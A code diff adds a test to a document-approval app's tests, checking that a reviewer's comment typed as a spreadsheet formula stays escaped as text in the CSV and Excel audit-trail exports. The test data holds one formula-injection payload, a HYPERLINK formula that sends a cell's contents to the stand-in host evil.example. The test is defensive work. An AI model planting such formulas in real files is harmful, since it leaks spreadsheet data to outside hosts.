@@ -88,3 +88,22 @@ def test_export_views_enforce_the_rule(handled, client):
     assert load_workbook(io.BytesIO(response.content)).active.max_row == 3
     page = client.get(f"/admin/workflows/trail/{doc.pk}/")
     assert page.status_code == 200 and "请法规处把关" in page.content.decode()
+
+
+def test_opinions_typed_as_formulas_stay_text_in_both_exports(office, client):
+    _workflows, people = office
+    doc = OfficialDocumentPageFactory(document_number="", publish=False)
+    submit_for_approval(doc, people["drafter"])
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
+    act(doc, people[flows.DIRECTOR], comment=formula)
+    people["drafter"].user_permissions.add(Permission.objects.get(codename="access_admin"))
+    client.force_login(people["drafter"])
+    response = client.get(f"/admin/workflows/trail/{doc.pk}/csv/")
+    cells = [v for row in csv.reader(io.StringIO(response.content.decode())) for v in row]
+    assert "'" + formula in cells and formula not in cells
+    assert response["X-Content-Type-Options"] == "nosniff"
+    response = client.get(f"/admin/workflows/trail/{doc.pk}/xlsx/")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert "'" + formula in [c.value for c in cells]
